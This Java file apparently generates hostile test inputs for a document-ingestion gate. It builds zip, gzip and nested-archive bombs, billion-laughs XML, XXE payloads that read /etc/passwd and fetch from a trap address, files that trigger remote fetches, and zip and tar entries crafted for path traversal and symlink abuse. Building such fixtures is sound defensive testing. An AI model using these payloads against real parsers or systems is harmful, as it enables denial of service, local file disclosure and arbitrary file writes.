package cotejo.gate.hostile;

import static java.nio.charset.StandardCharsets.US_ASCII;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/// Files made to do harm: to take all memory or time, to have something fetched or written, to be opened without end.
///
/// @param trap an address that nobody may ask for: "127.0.0.1:40123"
/// @param canary the name of a file that nobody may make
record Bad(String trap, String canary) {
    private static final int DEEP = 10_000;
    /// Each is written around the one before, so making them takes the square of their number.
    private static final int DEEP_ARCHIVES = 2_000;
    private static final int MEGABYTE = 1 << 20;

    /// By name.
    Map<String, byte[]> files() throws IOException {
        Map<String, byte[]> files = new LinkedHashMap<>();
        bombs(files);
        deep(files);
        entities(files);
        fetching(files);
        traversal(files);
        odd(files);
        return files;
    }

    private void bombs(Map<String, byte[]> files) throws IOException {
        files.put("bomb.gz", packed(512));
        files.put("bomb.zip", zip(Map.of("zeros.txt", new Zeros(512))));
        files.put("bomb-many.zip", many(2_000));
        byte[] nested = zip(Map.of("zeros.txt", new Zeros(128)));
        for (int i = 0; i < 4; i++) {
            Map<String, Content> copies = new LinkedHashMap<>();
            for (int j = 0; j < 16; j++) {
                copies.put("copy-" + j + ".zip", new Bytes(nested));
            }
            nested = zip(copies);
        }
        files.put("bomb-nested.zip", nested);
        files.put("bomb.docx", office("word/document.xml", new Zeros(512)));
        files.put("bomb.xlsx", office("xl/workbook.xml", new Zeros(512)));
        files.put("bomb.odt", openDocument("text", new Zeros(512)));
        files.put("bomb.ods", openDocument("spreadsheet", new Bytes(repeated().getBytes(UTF_8))));
        files.put("bomb.png", png(100_000, 100_000));
        files.put("bomb.pdf", pdf("<< /Length 10 >> stream\n" + "q ".repeat(2 * MEGABYTE) + "\nendstream"));
        files.put("long-line.txt", "palabra ".repeat(4 * MEGABYTE).getBytes(UTF_8));
        files.put("no-space.txt", "a".repeat(8 * MEGABYTE).getBytes(UTF_8));
        files.put("digits.txt", ("Se perdieron " + "9".repeat(2 * MEGABYTE) + " soldados.\n").getBytes(UTF_8));
        files.put("lines.txt", "7\n".repeat(3 * MEGABYTE).getBytes(UTF_8));
        files.put("columns.csv", (",".repeat(3 * MEGABYTE) + "\n1,2\n").getBytes(UTF_8));
    }

    private void deep(Map<String, byte[]> files) throws IOException {
        files.put(
                "deep.html",
                ("<html><body>" + "<div>".repeat(DEEP) + "7 soldiers" + "</div>".repeat(DEEP)).getBytes(UTF_8));
        files.put("deep-tables.html", ("<table><tr><td>".repeat(DEEP) + "7 soldiers").getBytes(UTF_8));
        files.put("deep.jsonl", ("{\"text\":" + "[".repeat(DEEP) + "]".repeat(DEEP) + "}\n").getBytes(UTF_8));
        files.put(
                "deep.rtf", ("{\\rtf1 " + "{".repeat(DEEP) + "7 soldiers" + "}".repeat(DEEP) + "}").getBytes(US_ASCII));
        files.put(
                "deep.odt",
                openDocument(
                        "text",
                        new Bytes(
                                ("<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\""
                                                + " xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\">"
                                                + "<text:span>".repeat(DEEP) + "7" + "</text:span>".repeat(DEEP)
                                                + "</office:document-content>")
                                        .getBytes(UTF_8))));
        files.put("deep.pdf", pdf("[".repeat(DEEP) + "]".repeat(DEEP)));
        byte[] inner = "7 soldiers deserted.\n".getBytes(UTF_8);
        for (int i = 0; i < DEEP_ARCHIVES; i++) {
            inner = stored(i == 0 ? "a.txt" : "a.zip", inner);
        }
        files.put("deep.zip", inner);
        StringBuilder mail = new StringBuilder("Subject: deep\r\nMIME-Version: 1.0\r\n");
        for (int i = 0; i < 2_000; i++) {
            mail.append("Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n".formatted(i, i));
        }
        files.put(
                "deep.eml",
                mail.append("Content-Type: text/plain\r\n\r\n7 soldiers\r\n")
                        .toString()
                        .getBytes(US_ASCII));
    }

    private void entities(Map<String, byte[]> files) throws IOException {
        String laughs = "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"ha\">"
                + "<!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">"
                + "<!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">"
                + "<!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\"><!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\">"
                + "<!ENTITY h \"&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;\">]><l>&h;&h;&h;&h;</l>";
        String outside = "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY % x SYSTEM \"http://" + trap
                + "/x.dtd\"> %x;<!ENTITY f SYSTEM \"file:///etc/passwd\">]><l>&f;</l>";
        for (Map.Entry<String, String> each :
                Map.of("laughs", laughs, "outside", outside).entrySet()) {
            Content bytes = new Bytes(each.getValue().getBytes(UTF_8));
            files.put(each.getKey() + ".xml", bytes.bytes());
            files.put(each.getKey() + ".xhtml", bytes.bytes());
            files.put(each.getKey() + ".svg", bytes.bytes());
            files.put(each.getKey() + ".docx", office("word/document.xml", bytes));
            files.put(each.getKey() + ".xlsx", office("xl/workbook.xml", bytes));
            files.put(each.getKey() + ".odt", openDocument("text", bytes));
            files.put(each.getKey() + ".ods", openDocument("spreadsheet", bytes));
        }
    }

    private void fetching(Map<String, byte[]> files) throws IOException {
        String at = "http://" + trap + "/";
        files.put(
                "fetch.html",
                ("<html><head><base href='" + at + "'><link rel=stylesheet href='" + at + "a.css'>"
                                + "<meta http-equiv=refresh content='0;url=" + at + "'><script src='" + at
                                + "a.js'></script></head><body><iframe src='" + at + "'></iframe><img src='" + at
                                + "a.png'><p>Some 7 soldiers deserted in 2010, the ministry said.</p></body></html>")
                        .getBytes(UTF_8));
        files.put(
                "fetch.rtf",
                ("{\\rtf1 {\\field{\\*\\fldinst INCLUDEPICTURE \"" + at + "a.png\"}}{\\*\\template " + at
                                + "a.dotx} 7 soldiers deserted.}")
                        .getBytes(US_ASCII));
        files.put("fetch.pdf", pdf("<< /Type /Action /S /URI /URI (" + at + ") >>"));
        files.put(
                "fetch.docx",
                zip(ordered(
                        "[Content_Types].xml",
                        "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\""
                                + " ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Override"
                                + " PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument."
                                + "wordprocessingml.document.main+xml\"/></Types>",
                        "_rels/.rels",
                        "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship"
                                + " Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
                                + "officeDocument\" Target=\"word/document.xml\"/></Relationships>",
                        "word/_rels/document.xml.rels",
                        "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship"
                                + " Id=\"r2\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
                                + "attachedTemplate\" Target=\"" + at
                                + "a.dotm\" TargetMode=\"External\"/></Relationships>",
                        "word/document.xml",
                        "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r>"
                                + "<w:t>Some 7 soldiers deserted in 2010.</w:t></w:r></w:p></w:body></w:document>")));
        files.put(
                "fetch.eml",
                ("Subject: fetch\r\nMIME-Version: 1.0\r\nContent-Type: message/external-body; access-type=URL; URL=\""
                                + at + "\"\r\n\r\nContent-Type: text/plain\r\n\r\n")
                        .getBytes(US_ASCII));
        files.put(
                "fetch.mhtml",
                ("MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\nContent-Location: " + at
                                + "\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: " + at
                                + "\r\n\r\n<html><body><img src='" + at
                                + "x.png'><p>7 soldiers deserted.</p></body></html>\r\n--b--\r\n")
                        .getBytes(US_ASCII));
    }

    private void traversal(Map<String, byte[]> files) throws IOException {
        byte[] text = "Some 7 soldiers deserted in 2010, the ministry said.\n".getBytes(UTF_8);
        Map<String, Content> names = new LinkedHashMap<>();
        for (String name : new String[] {
            "../" + canary,
            "../../../../../../../../tmp/" + canary,
            "/tmp/" + canary,
            "..\\..\\" + canary,
            "C:\\" + canary,
            "a/../../" + canary,
            "./" + canary,
            "CON",
            "nul.txt",
            "a\u0000b.txt",
            "\u202Etxt.exe",
            "a".repeat(300)
        }) {
            names.put(name, new Bytes(text));
        }
        files.put("traversal.zip", zip(names));
        ByteArrayOutputStream tar = new ByteArrayOutputStream();
        tarEntry(tar, "../../../../tmp/" + canary, '0', "", text);
        tarEntry(tar, "link", '2', "/tmp", new byte[0]);
        tarEntry(tar, "link/" + canary, '0', "", text);
        tarEntry(tar, "hard", '1', "/etc/passwd", new byte[0]);
        tarEntry(tar, "device", '3', "", new byte[0]);
        tarEntry(tar, "fifo", '6', "", new byte[0]);
        tar.write(new byte[1_024]);
        files.put("traversal.tar", tar.toByteArray());
        files.put(
                "traversal.eml",
                ("Subject: names\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
                                + "Content-Type: text/plain; name=\"../../../../tmp/" + canary
                                + "\"\r\nContent-Disposition: attachment; filename=\"/tmp/" + canary
                                + "\"\r\n\r\n7 soldiers deserted.\r\n--b--\r\n")
                        .getBytes(US_ASCII));
    }

    private void odd(Map<String, byte[]> files) throws IOException {
        files.put("nothing.zip", zip(Map.of()));
        files.put("text-in-zip-clothes.zip", "PK\u0003\u0004 but no archive\n".getBytes(US_ASCII));
        files.put("zip-in-text-clothes.txt", zip(Map.of("a.txt", new Bytes("7 soldiers deserted.\n".getBytes(UTF_8)))));
        files.put("program.pdf", "\u007fELF\u0002\u0001\u0001".getBytes(US_ASCII));
        files.put("nul.txt", new byte[4_096]);
        files.put(
                "controls.txt", "7 \u001b[31msoldiers\u001b[0m \u202edeserted\u202c \u0007in 2010.\n".getBytes(UTF_8));
        files.put("half-pairs.txt", new byte[] {'7', ' ', (byte) 0xed, (byte) 0xa0, (byte) 0x80, ' ', 's', '\n'});
        files.put("locked.zip", locked());
        files.put(
                "boundary.eml",
                "MIME-Version: 1.0\r\nContent-Type: multipart/mixed\r\n\r\nno boundary\r\n".getBytes(US_ASCII));
        files.put(
                "headers.eml",
                ("Subject: x\r\n" + "X-A: b\r\n".repeat(100_000) + "\r\n7 soldiers\r\n").getBytes(US_ASCII));
        files.put("from.mbox", "From \nFrom \nFrom x\n\n\nFrom y\n".repeat(500).getBytes(US_ASCII));
        files.put(
                "torn.warc",
                "WARC/1.0\r\nWARC-Type: response\r\nContent-Length: 99999999999\r\n\r\nHTTP/1.1 200 OK\r\n\r\n<p>7"
                        .getBytes(US_ASCII));
        files.put(
                "lies.jsonl",
                "{\"text\": 7}\nnull\n[]\n{\"text\":\"7 soldiers deserted.\",\"published\":\"soon\"}\n{\"text\""
                        .getBytes(UTF_8));
    }

    /// What an archive holds.
    private interface Content {
        void to(OutputStream out) throws IOException;

        default byte[] bytes() throws IOException {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            to(out);
            return out.toByteArray();
        }
    }

    private record Bytes(byte[] all) implements Content {
        @Override
        public void to(OutputStream out) throws IOException {
            out.write(all);
        }
    }

    /// So many megabytes of nothing.
    private record Zeros(int megabytes) implements Content {
        @Override
        public void to(OutputStream out) throws IOException {
            byte[] none = new byte[MEGABYTE];
            for (int i = 0; i < megabytes; i++) {
                out.write(none);
            }
        }
    }

    private static byte[] packed(int megabytes) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(out)) {
            new Zeros(megabytes).to(gzip);
        }
        return out.toByteArray();
    }

    private static byte[] zip(Map<String, ? extends Content> entries) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (Map.Entry<String, ? extends Content> entry : entries.entrySet()) {
                zip.putNextEntry(new ZipEntry(entry.getKey()));
                entry.getValue().to(zip);
            }
        }
        return out.toByteArray();
    }

    private static Map<String, Content> ordered(String... namesAndWords) {
        Map<String, Content> entries = new LinkedHashMap<>();
        for (int i = 0; i < namesAndWords.length; i += 2) {
            entries.put(namesAndWords[i], new Bytes(namesAndWords[i + 1].getBytes(UTF_8)));
        }
        return entries;
    }

    private static byte[] many(int entries) throws IOException {
        Map<String, Content> all = new LinkedHashMap<>();
        for (int i = 0; i < entries; i++) {
            all.put("n" + i + ".txt", new Bytes((i + " soldiers deserted.").getBytes(UTF_8)));
        }
        return zip(all);
    }

    private static byte[] stored(String name, byte[] bytes) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream(bytes.length + 300);
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            CRC32 sum = new CRC32();
            sum.update(bytes);
            ZipEntry entry = new ZipEntry(name);
            entry.setMethod(ZipEntry.STORED);
            entry.setSize(bytes.length);
            entry.setCrc(sum.getValue());
            zip.putNextEntry(entry);
            zip.write(bytes);
        }
        return out.toByteArray();
    }

    /// An archive whose one entry says that it needs a password.
    private static byte[] locked() throws IOException {
        byte[] zip = stored("secret.txt", "7 soldiers deserted.\n".getBytes(UTF_8));
        zip[6] |= 1;
        for (int at = 0; at + 4 < zip.length; at++) {
            if (zip[at] == 'P' && zip[at + 1] == 'K' && zip[at + 2] == 1 && zip[at + 3] == 2) {
                zip[at + 8] |= 1;
            }
        }
        return zip;
    }

    private static byte[] office(String part, Content content) throws IOException {
        Map<String, Content> entries = ordered("[Content_Types].xml", "<Types/>", "_rels/.rels", "<Relationships/>");
        entries.put(part, content);
        return zip(entries);
    }

    private static byte[] openDocument(String kind, Content content) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            byte[] type = ("application/vnd.oasis.opendocument." + kind).getBytes(US_ASCII);
            CRC32 sum = new CRC32();
            sum.update(type);
            ZipEntry first = new ZipEntry("mimetype");
            first.setMethod(ZipEntry.STORED);
            first.setSize(type.length);
            first.setCrc(sum.getValue());
            zip.putNextEntry(first);
            zip.write(type);
            zip.putNextEntry(new ZipEntry("content.xml"));
            content.to(zip);
        }
        return out.toByteArray();
    }

    /// A sheet that says it repeats one cell over all of it.
    private static String repeated() {
        return "<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\""
                + " xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\""
                + " xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\"><office:body><office:spreadsheet>"
                + "<table:table table:name=\"a\"><table:table-row table:number-rows-repeated=\"1048576\">"
                + "<table:table-cell table:number-columns-repeated=\"16384\" office:value-type=\"float\" office:value=\"7\">"
                + "<text:p>7</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>"
                + "</office:body></office:document-content>";
    }

    private static byte[] png(int width, int height) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'});
        ByteArrayOutputStream head = new ByteArrayOutputStream();
        head.write("IHDR".getBytes(US_ASCII));
        head.write(ByteBuffer.allocate(8).putInt(width).putInt(height).array());
        head.write(new byte[] {8, 0, 0, 0, 0});
        CRC32 sum = new CRC32();
        sum.update(head.toByteArray());
        out.write(ByteBuffer.allocate(4).putInt(13).array());
        out.write(head.toByteArray());
        out.write(ByteBuffer.allocate(4).putInt((int) sum.getValue()).array());
        return out.toByteArray();
    }

    /// One object where the catalogue ought to be, and a page that nobody finds.
    private static byte[] pdf(String object) {
        return ("%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>\nendobj\n"
                        + "2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n3 0 obj\n" + object
                        + "\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
                .getBytes(US_ASCII);
    }

    private static void tarEntry(OutputStream out, String name, char type, String link, byte[] bytes)
            throws IOException {
        byte[] header = new byte[512];
        put(header, 0, name);
        put(header, 100, "0000644\0");
        put(header, 108, "0000000\0");
        put(header, 116, "0000000\0");
        put(header, 124, String.format("%011o\0", bytes.length));
        put(header, 136, "00000000000\0");
        put(header, 148, "        ");
        header[156] = (byte) type;
        put(header, 157, link);
        put(header, 257, "ustar\00000");
        int sum = 0;
        for (byte each : header) {
            sum += each & 0xff;
        }
        put(header, 148, String.format("%06o\0 ", sum));
        out.write(header);
        out.write(bytes);
        out.write(new byte[(512 - bytes.length % 512) % 512]);
    }

    private static void put(byte[] into, int at, String words) {
        byte[] bytes = words.getBytes(US_ASCII);
        System.arraycopy(bytes, 0, into, at, Math.min(bytes.length, into.length - at));
    }
}
